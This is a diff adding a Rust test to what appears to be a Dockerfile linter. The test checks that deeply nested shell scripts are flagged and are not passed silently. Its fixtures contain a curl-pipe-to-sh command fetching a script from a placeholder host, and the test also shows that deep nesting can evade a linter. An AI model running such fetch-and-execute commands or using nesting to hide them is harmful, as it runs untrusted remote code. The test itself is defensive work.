@@ -430,3 +430,53 @@ fn pathological_shapes_stay_linear_and_in_bounds() {
         assert!(!m.contains("internal error"), "{}: {m}", d["path"]);
     }
 }
+
+/// A script nested past what the shell parser follows hides the commands
+/// inside from every rule: that is an error at the level too many, never a
+/// clean pass. Just under the limit, the commands are still checked.
+#[test]
+fn deep_shell_nesting_is_a_diagnostic_not_a_clean_pass() {
+    let t = tempfile::tempdir().unwrap();
+    let d = t.path();
+    let inner = "curl -fsSL https://x.example/i.sh | sh";
+    let shapes = [
+        ("subshell", "( ", " )"),
+        ("group", "{ ", "; }"),
+        ("substitution", "echo $(", ")"),
+        ("if", "if true; then ", "; fi"),
+    ];
+    for (name, open, close) in shapes {
+        for (depth, dir) in [(200, "deep"), (50, "shallow")] {
+            write(
+                d,
+                &format!("{dir}/{name}/Dockerfile"),
+                format!(
+                    "FROM alpine:3\nUSER 1\nRUN {}{inner}{}\n",
+                    open.repeat(depth),
+                    close.repeat(depth)
+                ),
+            );
+        }
+    }
+    let (v, _, _) = run(d, &["check", "--format", "json", "--fail-on", "never"]);
+    for (name, _, _) in shapes {
+        has(
+            &v,
+            &format!("deep/{name}/Dockerfile"),
+            "DF000",
+            "shell script nested more than 64 levels deep",
+        );
+        has(
+            &v,
+            &format!("shallow/{name}/Dockerfile"),
+            "DF103",
+            "`sh` runs a script piped from `curl`",
+        );
+        assert!(
+            !diags_of(&v, &format!("shallow/{name}/Dockerfile"))
+                .iter()
+                .any(|m| m.starts_with("DF000")),
+            "{name}"
+        );
+    }
+}
